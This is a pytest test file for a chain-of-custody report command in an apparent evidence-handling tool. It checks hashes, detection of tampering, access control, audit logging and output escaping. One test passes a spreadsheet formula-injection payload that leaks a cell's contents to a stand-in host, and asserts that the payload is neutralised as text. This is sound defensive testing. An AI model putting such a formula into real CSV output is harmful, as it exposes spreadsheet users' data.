"""`khavaran custody SOURCE --report`: the chain of custody of one source as a custodian hands
it to a court: every event, the source's hash and size, and whether the stored bytes still
match, hashed now; the same gate as reading the source, and logged."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from khavaran.audit.models import AuditEvent
from khavaran.evidence.actions import get_store
from khavaran.verify import verify_all
from tests.factories import make_source

pytestmark = pytest.mark.django_db


def _transferred(khavaran: Any, source: Any) -> None:
    result = khavaran(
        "custody", str(source.pk), "transferred", "--by", "Custodian A",
        "--to", "Prosecution office", "--note", "sealed bag 7",
    )  # fmt: skip
    assert result.exit_code == 0, result.output


def test_the_json_report_lists_every_event_with_the_hash_seen_and_the_stored_bytes_checked(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    source = make_source(tmp_path, "Witness statement, Evin, 1988.", name="statement-ali.txt")
    _transferred(khavaran, source)
    result = khavaran("custody", str(source.pk), "--report", "--format", "json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    facts = report["source"]
    assert (facts["source"], facts["sha256"], facts["size"]) == (
        source.pk, source.sha256, source.size
    )  # fmt: skip
    assert facts["original_filename"] == "statement-ali.txt"
    assert facts["stored"] == "intact" and facts["checked_at"].endswith("+00:00")
    actions = [e["action"] for e in report["custody"]]
    assert actions == ["collected", "transferred"]
    transfer = report["custody"][1]
    assert transfer["actor"] == "Custodian A" and transfer["sha256_seen"] == source.sha256
    # Who handled it and who recorded it (the operator running the command) are both named.
    recorded = AuditEvent.objects.get(action="custody:transferred").actor
    assert transfer["recorded_by"] == recorded
    assert transfer["matches"] is True and "sealed bag 7" in transfer["note"]
    assert transfer["at"].endswith("+00:00") and transfer["tool_version"].startswith("khavaran ")


def test_the_report_is_logged_in_the_audit_log_and_verify_stays_clean(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    source = make_source(tmp_path, "A report.", name="r.txt")
    assert khavaran("custody", str(source.pk), "--report").exit_code == 0
    logged = AuditEvent.objects.get(action="custody-report")
    assert (logged.model, logged.object_id) == ("evidence.Source", str(source.pk))
    assert logged.after["stored"] == "intact" and logged.after["format"] == "md"
    assert verify_all().ok, verify_all().problems


def test_two_reports_differ_only_in_the_moment_of_the_check(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    source = make_source(tmp_path, "Same report twice.", name="same.txt")
    _transferred(khavaran, source)
    first, second = (
        khavaran("custody", str(source.pk), "--report", "--format", "csv").stdout for _ in range(2)
    )
    rows = [list(csv.DictReader(io.StringIO(text))) for text in (first, second)]
    for row in (*rows[0], *rows[1]):
        row.pop("source_checked_at")
    assert rows[0] == rows[1] and len(rows[0]) == 2
    assert [r["action"] for r in rows[0]] == ["collected", "transferred"]
    assert rows[0][0]["source_sha256"] == source.sha256


def test_an_altered_original_is_reported_as_such_and_the_command_fails(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    source = make_source(tmp_path, "Bytes that will change.", name="a.txt")
    original = get_store().path_for(source.sha256)
    kept = original.read_bytes()
    original.chmod(0o600)
    original.write_bytes(kept + b" altered")
    try:
        result = khavaran("custody", str(source.pk), "--report", "--format", "md")
    finally:
        original.write_bytes(kept)
        original.chmod(0o400)
    assert result.exit_code == 1
    assert "| stored | altered |" in result.stdout
    assert "original of source" in result.stderr and "altered; run khavaran verify" in result.stderr


def test_a_confidential_source_is_reported_only_to_those_who_may_read_it(
    khavaran: Any, tmp_path: Path, data_dir: Path, account: Any
) -> None:
    secret = make_source(tmp_path, "A confidential file.", confidentiality="confidential")
    account("ana", "analyst")
    refused = khavaran("--as", "ana", "custody", str(secret.pk), "--report")
    assert refused.exit_code == 1 and "Traceback" not in refused.output
    assert secret.sha256 not in refused.output
    assert not AuditEvent.objects.filter(action="custody-report").exists()


def test_the_markdown_report_keeps_a_pipe_in_a_note_inside_its_cell(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    source = make_source(tmp_path, "Piped note.", name="p.txt")
    khavaran("custody", str(source.pk), "verified", "--note", "bag 7 | seal intact\nshelf 2")
    text = khavaran("custody", str(source.pk), "--report").stdout
    assert "bag 7 \\| seal intact shelf 2" in text
    event_rows = [line for line in text.splitlines() if "| verified |" in line]
    assert len(event_rows) == 1


def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text(
    khavaran: Any, tmp_path: Path, data_dir: Path
) -> None:
    # A note (or a file's own title) like this would run when the report is opened in Excel.
    source = make_source(tmp_path, "Formula note.", name="f.txt")
    note = '=HYPERLINK("http://example.org/?leak="&A1,"open")'
    khavaran("custody", str(source.pk), "verified", "--note", note)
    text = khavaran("custody", str(source.pk), "--report", "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    notes = [value for row in rows for value in row.values() if "HYPERLINK" in value]
    assert notes == ["'" + note]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("verified", "--report"), "--report writes the chain of custody: leave out 'verified'"),
        ((), "say what happened to the source"),
    ],
)
def test_report_and_action_are_asked_for_clearly(
    khavaran: Any, tmp_path: Path, data_dir: Path, args: tuple[str, ...], message: str
) -> None:
    source = make_source(tmp_path, "A report.", name="r.txt")
    result = khavaran("custody", str(source.pk), *args)
    assert result.exit_code != 0 and message in result.output


def test_the_command_offers_exactly_the_formats_the_report_has() -> None:
    from khavaran.cli.custody import REPORT_FORMATS
    from khavaran.evidence.custody_report import FORMATS, MEDIA_TYPES

    assert REPORT_FORMATS == FORMATS and set(MEDIA_TYPES) == set(FORMATS)
